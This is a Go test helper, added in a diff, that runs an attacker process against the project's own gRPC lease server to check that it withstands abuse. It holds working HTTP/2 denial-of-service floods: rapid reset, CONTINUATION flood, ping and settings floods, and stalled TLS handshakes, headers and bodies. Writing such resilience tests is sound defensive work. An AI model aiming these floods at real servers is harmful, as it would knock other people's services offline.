@@ -1,0 +1,251 @@
+package abuse
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/tls"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+
+	"github.com/trivet-dev/trivet/internal/identity"
+	leasev1 "github.com/trivet-dev/trivet/proto/trivet/lease/v1"
+)
+
+// attackSettings are the settings of an attacker's process.
+type attackSettings struct {
+	Attack   string
+	Server   string
+	Files    identity.Files // without a CertFile the attacker has no certificate
+	Duration time.Duration
+	// Connections is the number of connections at the same time.
+	Connections int
+}
+
+// attackResult is what an attacker did.
+type attackResult struct {
+	Attempts, Connections, Frames int64
+}
+
+// attacker makes connections from one address.
+type attacker struct {
+	attackSettings
+	tls    *tls.Config
+	dialer *net.Dialer
+
+	attempts, connections, frames atomic.Int64
+}
+
+// lowestPriority is the niceness of an attacker.
+const lowestPriority = 19
+
+// attack attacks for a time, and prints what it did.
+func attack() error {
+	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, lowestPriority); err != nil {
+		return err
+	}
+	a := &attacker{dialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 66, 0, 1)}}}
+	if err := settings(&a.attackSettings); err != nil {
+		return err
+	}
+	var err error
+	if a.tls, err = clientTLS(a.Files); err != nil {
+		return err
+	}
+	way, ok := attacks[a.Attack]
+	if !ok {
+		return fmt.Errorf("no attack %q", a.Attack)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), a.Duration)
+	defer cancel()
+	var running sync.WaitGroup
+	for range a.Connections {
+		running.Go(func() {
+			for ctx.Err() == nil {
+				a.once(ctx, way)
+			}
+		})
+	}
+	running.Wait()
+	return json.NewEncoder(os.Stdout).Encode(attackResult{
+		Attempts: a.attempts.Load(), Connections: a.connections.Load(), Frames: a.frames.Load(),
+	})
+}
+
+// once makes one connection and attacks on it until it is closed. An attempt that fails is repeated
+// later.
+func (a *attacker) once(ctx context.Context, way attackWay) {
+	a.attempts.Add(1)
+	raw, err := a.dialer.DialContext(ctx, "tcp", a.Server)
+	if err != nil {
+		wait(ctx, way.pause)
+		return
+	}
+	defer raw.Close()
+	defer context.AfterFunc(ctx, func() { raw.Close() })()
+	if way.raw != nil {
+		a.connections.Add(1)
+		_ = way.raw(raw) // ends with the connection
+		wait(ctx, way.pause)
+		return
+	}
+	secure := tls.Client(raw, a.tls)
+	if err := secure.HandshakeContext(ctx); err != nil {
+		wait(ctx, way.pause)
+		return
+	}
+	a.connections.Add(1)
+	_ = a.converse(secure, way) // ends with the connection
+	wait(ctx, way.pause)
+}
+
+// converse begins an HTTP/2 connection and sends what the attack sends.
+func (a *attacker) converse(c net.Conn, way attackWay) error {
+	var reading sync.WaitGroup
+	reading.Go(func() { _, _ = io.Copy(io.Discard, c) }) // until the server closes the connection
+	defer reading.Wait()
+	defer c.Close()
+	buffered := bufio.NewWriterSize(c, 32<<10)
+	if _, err := buffered.WriteString(http2.ClientPreface); err != nil {
+		return err
+	}
+	framer := http2.NewFramer(buffered, nil)
+	framer.AllowIllegalWrites = true
+	if err := framer.WriteSettings(); err != nil {
+		return err
+	}
+	if way.flood == nil {
+		return buffered.Flush()
+	}
+	for number := uint32(0); ; number++ {
+		more, err := way.flood(framer, number)
+		if err != nil {
+			return err
+		}
+		a.frames.Add(1)
+		if !more {
+			if err := buffered.Flush(); err != nil {
+				return err
+			}
+			reading.Wait() // the connection stays open until the server closes it
+			return nil
+		}
+	}
+}
+
+func wait(ctx context.Context, pause time.Duration) {
+	select {
+	case <-ctx.Done():
+	case <-time.After(pause):
+	}
+}
+
+// attackWay is one way to attack.
+type attackWay struct {
+	// raw attacks without TLS.
+	raw func(net.Conn) error
+	// flood sends frames, by their number, until it returns false. Without it the connection ends
+	// after its beginning.
+	flood func(framer *http2.Framer, number uint32) (more bool, err error)
+	// pause is the time between two connections.
+	pause time.Duration
+}
+
+const short = 10 * time.Millisecond
+
+var attacks = map[string]attackWay{
+	"rapid reset": {pause: short, flood: func(f *http2.Framer, number uint32) (bool, error) {
+		stream := 2*number + 1
+		if err := f.WriteHeaders(headers(stream, leasev1.HeartbeatService_StreamHeartbeats_FullMethodName)); err != nil {
+			return false, err
+		}
+		return true, f.WriteRSTStream(stream, http2.ErrCodeCancel)
+	}},
+	"continuation flood": {pause: short, flood: func(f *http2.Framer, number uint32) (bool, error) {
+		if number == 0 {
+			open := headers(1, leasev1.HeartbeatService_StreamHeartbeats_FullMethodName)
+			open.EndHeaders = false
+			return true, f.WriteHeaders(open)
+		}
+		return true, f.WriteContinuation(1, false, padding)
+	}},
+	"ping flood": {pause: short, flood: func(f *http2.Framer, _ uint32) (bool, error) {
+		return true, f.WritePing(false, [8]byte{})
+	}},
+	"settings flood": {pause: short, flood: func(f *http2.Framer, number uint32) (bool, error) {
+		return true, f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + number%2})
+	}},
+	"stalled handshakes": {pause: time.Second, raw: func(c net.Conn) error {
+		// The beginning of a ClientHello of 512 bytes.
+		if _, err := c.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}); err != nil {
+			return err
+		}
+		_, err := io.Copy(io.Discard, c)
+		return err
+	}},
+	"stalled headers": {pause: time.Second, flood: func(f *http2.Framer, _ uint32) (bool, error) {
+		open := headers(1, leasev1.LeaseService_GetLease_FullMethodName)
+		open.EndHeaders = false
+		return false, f.WriteHeaders(open)
+	}},
+	"stalled bodies": {pause: time.Second, flood: func(f *http2.Framer, number uint32) (bool, error) {
+		stream := 2*number + 1
+		if err := f.WriteHeaders(headers(stream, leasev1.LeaseService_GetLease_FullMethodName)); err != nil {
+			return false, err
+		}
+		return number < 98, f.WriteData(stream, false, []byte{0, 0, 0}) // a part of the prefix of a message
+	}},
+	"handshakes": {pause: 0},
+}
+
+// padding is a part of a header block: a literal field without indexing.
+var padding = func() []byte {
+	var block bytes.Buffer
+	encoder := hpack.NewEncoder(&block)
+	_ = encoder.WriteField(hpack.HeaderField{Name: "padding", Value: string(bytes.Repeat([]byte("~"), 1000)), Sensitive: true}) // a buffer takes all
+	return block.Bytes()
+}()
+
+// headers returns the frame that opens a call.
+func headers(stream uint32, method string) http2.HeadersFrameParam {
+	var block bytes.Buffer
+	encoder := hpack.NewEncoder(&block)
+	for _, field := range []hpack.HeaderField{
+		{Name: ":method", Value: "POST"},
+		{Name: ":scheme", Value: "https"},
+		{Name: ":path", Value: method},
+		{Name: ":authority", Value: serverName},
+		{Name: "content-type", Value: "application/grpc"},
+		{Name: "te", Value: "trailers"},
+	} {
+		field.Sensitive = true        // no state of the connection
+		_ = encoder.WriteField(field) // a buffer takes all
+	}
+	return http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true}
+}
+
+// runAttack runs an attacker until it ends.
+func runAttack(t *testing.T, settings attackSettings) attackResult {
+	t.Helper()
+	command := child(t, "attacker", settings)
+	output, err := command.Output()
+	if err != nil {
+		t.Fatalf("attacker: %v", err)
+	}
+	var result attackResult
+	if err := json.Unmarshal(output, &result); err != nil {
+		t.Fatalf("attacker printed %q: %v", output, err)
+	}
+	return result
+}
